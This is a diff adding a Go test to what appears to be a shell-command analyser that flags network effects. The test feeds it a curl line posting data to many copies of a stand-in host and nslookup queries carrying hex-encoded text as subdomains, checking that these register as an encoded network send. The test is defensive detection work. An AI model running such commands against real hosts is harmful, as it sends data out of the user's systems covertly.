@@ -212,3 +212,21 @@ func TestCarryByTools(t *testing.T) {
 		}
 	}
 }
+
+// TestCarryBounds has what one command sends to many peers counted: 300 texts to 300 peers
+// are more than gate follows, and it says so.
+func TestCarryBounds(t *testing.T) {
+	line := "curl" + strings.Repeat(" -d a", 300) + strings.Repeat(" https://x.example", 300)
+	f := chain(line)
+	if n := len(f.Effects); n > 2000 || !slices.ContainsFunc(f.Unknown, func(u hook.Unknown) bool { return u.Kind == "limit" }) {
+		t.Errorf("%d effects, unknown %v", n, f.Unknown)
+	}
+	for _, name := range []string{"4a6f686e20446f652069732068657265.x.example", "4a6f686e20446f65.2069732068657265.x.example"} {
+		if f := chain("nslookup " + name); !slices.ContainsFunc(f.Effects, func(e hook.FactEffect) bool {
+			is, ok := e.Is.(*hook.NetSend)
+			return ok && is.Source == "encoded"
+		}) {
+			t.Errorf("nslookup %s: %+v", name, f.Effects)
+		}
+	}
+}
